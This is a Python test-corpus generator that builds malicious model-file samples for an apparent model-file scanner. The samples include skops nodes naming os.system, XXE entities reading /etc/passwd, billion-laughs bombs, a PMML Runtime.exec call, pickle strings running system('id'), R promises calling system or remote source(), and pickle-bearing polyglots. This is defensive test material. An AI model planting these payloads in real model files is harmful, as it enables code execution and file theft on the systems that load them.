"""Attacks on tables, and on the texts and numbers of other libraries: skops, PMML, boosters, R, columns, polyglots."""

from __future__ import annotations

import base64
import gzip
import json
import struct
from collections.abc import Iterator
from typing import Any

import booster_samples as make
from corpora.hostile_texts import FLOAT, gguf
from corpora.hostile_torch import HONEST, remade
from corpora.units import (
    BOMB,
    BROKEN,
    CALLED,
    HIDDEN,
    NAMED,
    ODD,
    OPERATOR,
    OUTSIDE,
    PATH,
    Unit,
    unit,
)
from modelfile_samples import EVIL, PLAIN, call, safetensors, torch_zip, zipped
from shipworthy.modelfile import Code


def skops() -> Iterator[Unit]:
    def one(key: str, node: dict[str, Any], *more: tuple[str, bytes], codes: frozenset[Code] = NAMED) -> Unit:
        empty = {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [], "__id__": 2}
        schema = {
            "__class__": "dict",
            "__module__": "builtins",
            "__loader__": "DictNode",
            "key_types": empty,
            "content": {"a": node},
            "protocol": 2,
            "_skops_version": "0.13.0",
            "__id__": 1,
        }
        return unit("skops", key, zipped(("schema.json", json.dumps(schema).encode()), *more), codes | ODD, "m.skops")

    def node(loader: str, module: str, name: str, content: object, **more: Any) -> dict[str, Any]:
        return {"__class__": name, "__module__": module, "__loader__": loader, "content": content, "__id__": 9, **more}

    for module, name in (
        ("os", "system"),
        ("builtins", "eval"),
        ("subprocess", "Popen"),
        ("numpy", "load"),
        ("evil", "run"),
        ("sklearn.datasets", "load_files"),
        ("joblib", "load"),
        ("operator", "attrgetter"),
    ):
        yield one(
            f"function {module}.{name}", node("FunctionNode", module, name, {"module_path": module, "function": name})
        )
        yield one(f"type {module}.{name}", node("TypeNode", module, name, {}))
        yield one(f"object {module}.{name}", node("ObjectNode", module, name, None))
        yield one(
            f"operator {module}.{name}", node("OperatorFuncNode", module, name, {"a": 1}, attrs={"__class__": "tuple"})
        )
        method = {"func": name, "obj": node("ObjectNode", module, "X", None)}
        yield one(f"method {module}.{name}", node("MethodNode", module, name, method))
        yield one(
            f"partial {module}.{name}",
            node(
                "PartialNode",
                "functools",
                "partial",
                {"func": node("FunctionNode", module, name, {"module_path": module, "function": name})},
            ),
        )
    yield one("methodcaller", node("OperatorFuncNode", "operator", "methodcaller", {"a": 1}))
    yield one("unknown loader", node("EvilNode", "builtins", "dict", {}))
    yield one("joblib inside", node("JoblibNode", "sklearn", "X", "x.pkl"), ("x.pkl", EVIL), codes=NAMED | HIDDEN)
    yield one(
        "array of objects",
        node("NdArrayNode", "numpy", "ndarray", "x.npy", type="numpy", file="x.npy"),
        ("x.npy", EVIL),
        codes=NAMED | HIDDEN,
    )
    yield one(
        "file with a path",
        node("NdArrayNode", "numpy", "ndarray", "x", type="numpy", file="../../x.npy"),
        codes=NAMED | PATH,
    )
    yield one(
        "declared type differs", node("FunctionNode", "numpy", "mean", {"module_path": "os", "function": "system"})
    )
    good = b'"__class__": "DecisionTreeClassifier"'
    yield unit(
        "skops",
        "class of an honest model exchanged",
        remade("llm/tree.skops", ("schema.json", good, b'"__class__": "EvilClassifier"')),
        NAMED,
        "m.skops",
    )


ENTITY = '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


LAUGHS = (
    '<!DOCTYPE P [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;">]>'
)


def xmls() -> Iterator[Unit]:
    codes = (
        ODD | BOMB | OUTSIDE | OPERATOR | CALLED | {Code.FOREIGN_CONTENT, Code.UNEXPLAINED_BYTES, Code.HIDDEN_PAYLOAD}
    )
    for key, data in {
        "entity": make.pmml("&x;", ENTITY),
        "laughs": make.pmml("&c;", LAUGHS),
        "external DTD": make.pmml("", '<!DOCTYPE P SYSTEM "http://x/x.dtd">'),
        "stylesheet": make.pmml("", '<?xml-stylesheet href="http://example.invalid/x.xsl"?>'),
        "script": make.pmml('<Extension name="x"><script>run()</script></Extension>'),
        "function of Java": make.pmml(
            '<TransformationDictionary><DerivedField name="x" optype="categorical" dataType="string"><Apply '
            'function="java.lang.Runtime.exec"><Constant>id</Constant></Apply></DerivedField></TransformationDictionary>'
        ),
        "unknown function": make.pmml(
            '<TransformationDictionary><DerivedField name="x" optype="categorical" dataType="string"><Apply '
            'function="evil"><Constant>id</Constant></Apply></DerivedField></TransformationDictionary>'
        ),
        "include": make.pmml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
        "100,000 deep": make.pmml("<Extension>" * 100_000 + "</Extension>" * 100_000),
        "payload behind": make.pmml("") + EVIL,
        "in UTF-16": make.pmml("&x;", ENTITY).decode().encode("utf-16"),
        "in UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>' + make.pmml("&x;", ENTITY)[21:],
        "cut": make.pmml("")[:-9],
    }.items():
        yield unit("PMML", key, data, codes, "m.pmml")


def boosters() -> Iterator[Unit]:
    everything = BROKEN | ODD | BOMB | OUTSIDE | CALLED | NAMED | OPERATOR | {Code.FOREIGN_CONTENT}
    trees: dict[str, dict[str, Any]] = {
        "loop": {"left_children": [0, -1, -1]},
        "child beyond": {"left_children": [99, -1, -1]},
        "negative child": {"left_children": [-7, -1, -1]},
        "lengths differ": {"parents": [0]},
        "feature beyond": {"split_indices": [99, 0, 0]},
        "count differs": {"tree_param": {"num_nodes": "9999", "num_feature": "2"}},
    }
    for key, tree in trees.items():
        model = make.xgboost_model(**tree)
        yield unit("XGBoost", f"{key}, UBJSON", make.ubjson(model), everything, "m.ubj", True)
        yield unit("XGBoost", f"{key}, JSON", json.dumps(model).encode(), everything, "m.json", True)
    base = make.xgboost_model()
    for key, change in {
        "pickle in an attribute": {"attributes": {"scikit_learn": base64.b64encode(EVIL).decode()}},
        "old pickle in an attribute": {"attributes": {"x": "cos\nsystem\n(S'id'\ntR."}},
        "foreign objective": {"objective": {"name": "evil"}},
    }.items():
        model = {**base, "learner": {**base["learner"], **change}}  # type: ignore[dict-item]
        yield unit("XGBoost", f"{key}, UBJSON", make.ubjson(model), everything | HIDDEN, "m.ubj")
        yield unit("XGBoost", f"{key}, JSON", json.dumps(model).encode(), everything | HIDDEN, "m.json")
    for key, length in {"huge": 1 << 60, "negative": -1}.items():
        raw = b"{L\0\0\0\0\0\0\0\x07learner{L\0\0\0\0\0\0\0\x01a[$d#L" + struct.pack(">q", length) + bytes(20)
        yield unit("XGBoost", f"{key} array", raw, everything, "m.ubj", True)
    yield unit("XGBoost", "payload behind", make.ubjson(base) + EVIL, HIDDEN | ODD, "m.ubj", True)
    yield unit("XGBoost", "pickle as .model", call("os", "system", "id"), CALLED, "m.model")
    for name, changes in {
        "lightgbm-plain.txt": (
            (b"tree_sizes=", b"tree_sizes=9"),
            (b"num_leaves=", b"num_leaves=99999999"),
            (b"left_child=", b"left_child=9"),
            (b"split_feature=", b"split_feature=77"),
            (b"[forcedbins_filename: ]", b"[forcedbins_filename: /etc/passwd]"),
            (b"\nversion=", b"\nevil=1\nversion="),
        ),
        "catboost-plain.json": ((b'"features_info"', b'"evil": 1, "features_info"'), (b"[", b"[[")),
    }.items():
        raw = (HONEST / "boosters" / name).read_bytes()
        for number, (old, new) in enumerate(changes):
            if old in raw:
                yield unit("LightGBM, CatBoost", f"{name} {number}", raw.replace(old, new, 1), everything, name, True)
        yield unit("LightGBM, CatBoost", f"{name} payload behind", raw + EVIL, HIDDEN | BROKEN, name, True)
    cbm = (HONEST / "boosters/catboost-plain.cbm").read_bytes()
    yield unit(
        "LightGBM, CatBoost", "core beyond the file", cbm[:4] + b"\xf0\xff\xff\xff" + cbm[8:], everything, "m.cbm", True
    )
    yield unit("LightGBM, CatBoost", "payload behind the core", cbm + EVIL, HIDDEN | ODD, "m.cbm", True)


def r_data() -> Iterator[Unit]:
    run = make.r_call("system", make.r_text("id"))
    codes = CALLED | NAMED | {Code.REMOTE_CODE}
    for key, item in {
        "promise": make.r_promise(run),
        "promise in a list": make.r_vector(make.r_text("x"), make.r_promise(run)),
        "promise of eval": make.r_promise(make.r_call("eval", make.r_text("x"))),
        "closure": make.r_closure(run),
        "call": run,
        "promise of source": make.r_promise(make.r_call("source", make.r_text("https://example.invalid/x.R"))),
        "promise of a promise": make.r_promise(make.r_promise(run)),
        "symbol's value": make.r_vector(make.r_closure(make.r_call(".Call"))),
        "dyn.load": make.r_promise(make.r_call("dyn.load", make.r_text("/tmp/x.so"))),
    }.items():
        yield unit("R", key, make.rds(item), codes, "m.rds")
        yield unit("R", f"{key}, gzip", gzip.compress(make.rds(item)), codes, "m.rds")
        yield unit("R", f"{key}, RData", make.rds(item, b"RDX3\n"), codes | BROKEN, "m.RData")
    yield unit("R", "list of 2^31", make.rds(make.r_int(19) + make.r_int(0x7FFFFFFF)), BROKEN | BOMB, "m.rds", True)
    yield unit("R", "nested deep", make.rds((make.r_int(19) + make.r_int(1)) * 100_000), BROKEN | BOMB, "m.rds", True)
    yield unit("R", "pickle behind", make.rds(make.r_text("x")) + EVIL, HIDDEN, "m.rds", True)


def columns() -> Iterator[Unit]:
    raw = (HONEST / "columnar/nested.arrows").read_bytes()
    for name in (b"evil.types", b"arrow.py_e", b"pandas.obj"):
        yield unit(
            "Arrow, Parquet, Flax",
            f"extension {name.decode()}",
            raw.replace(b"arrow.uuid", name, 1),
            CALLED | NAMED | {Code.FOREIGN_CONTENT},
            "m.arrows",
        )
    old = b"cos\nsystem\n(tR."
    changed = raw.replace(b"arrow.uuid", b"evil.types", 1).replace(
        b"ARROW:extension:metadata", old + b" " * (24 - len(old)), 1
    )
    yield unit("Arrow, Parquet, Flax", "pickle in the metadata", changed, HIDDEN | NAMED, "m.arrows")
    odd = HIDDEN | BROKEN | BOMB | {Code.UNKNOWN_NAME, Code.FOREIGN_CONTENT}
    parquet = (HONEST / "columnar/frame.parquet").read_bytes()
    arrow = (HONEST / "columnar/frame.arrow").read_bytes()
    flax = (HONEST / "flax/params.msgpack").read_bytes()
    for key, data in {
        "Parquet's footer beyond": parquet[:-8] + b"\xff\xff\xff\x7fPAR1",
        "hole in Parquet": parquet.replace(b"PAR1", b"PAR1" + EVIL * 4, 1),
        "payload behind Parquet": parquet + EVIL,
        "payload behind Arrow": raw + EVIL,
        "Arrow's footer beyond": arrow[:-10] + b"\xff\xff\xff\x7fARROW1",
        "Arrow cut": raw[:-300],
        "payload behind Flax": flax + EVIL,
        "objects in Flax": flax.replace(b"\xa7float32", b"\xa7object_", 1),
        "wrong shape in Flax": flax.replace(b"\x92\x03\x04", b"\x92\x03\x7f", 1),
        "pickle in Flax": b"\x81\xa1a\xc4" + bytes([len(EVIL)]) + EVIL,
        "unknown extension in Flax": b"\x81\xa1a\xc7\x05\x63hello",
        "array of 2^32 in Flax": b"\x81\xa1a\xdd\xff\xff\xff\xff",
        "Flax 5,000 deep": b"\x81\xa1a" + b"\x91" * 5000 + b"\xc0",
        "pickle instead of Flax": EVIL,
    }.items():
        yield unit("Arrow, Parquet, Flax", key, data, odd, "m.bin", True)


def polyglots() -> Iterator[Unit]:
    zip_, st = torch_zip(EVIL), safetensors({"a": FLOAT}, bytes(16))
    for key, data in {
        "PNG and zip": b"\x89PNG\r\n\x1a\n" + bytes(40) + zip_,
        "JPEG and zip": b"\xff\xd8\xff\xe0" + bytes(40) + zip_,
        "PDF and zip": b"%PDF-1.7\n" + zip_,
        "GGUF and zip": gguf() + zip_,
        "safetensors and pickle": st + EVIL,
        "zip and safetensors": torch_zip(PLAIN) + st,
        "pickle and zip": PLAIN + zip_,
        "script and zip": b"#!/bin/sh\necho\nexit\n" + zip_,
        "text and pickle": b"# a model card\n" + EVIL,
        "JSON and pickle": b"{}\n" + EVIL,
        "JSON and zip": b'{"model_type": "llama"}' + zip_,
        "YAML and zip": b"a: 1\n" + zip_,
        "gzip and zip": gzip.compress(PLAIN) + zip_,
        "npy and zip": b"\x93NUMPY\x01\x00"
        + struct.pack("<H", 62)
        + b"{'descr': '<f8', 'fortran_order': False, 'shape': (2,)}".ljust(61)
        + b"\n"
        + bytes(16)
        + zip_,
        "HDF5 behind zeros": bytes(512) + b"\x89HDF\r\n\x1a\n" + bytes(90),
        "tar and pickle": zipped(("a.tar", bytes(1024) + EVIL)),
        "zeros and pickle": bytes(4096) + EVIL,
        "XML and zip": make.pmml("") + zip_,
        "pickle of protocol 0 in JSON": b"(S'{\"a\": 1}'\n" + b"cos\nsystem\n" + b"(S'id'\ntR.",
    }.items():
        yield unit("polyglots", key, data, HIDDEN | BROKEN | {Code.FOREIGN_CONTENT}, "model.bin", True)
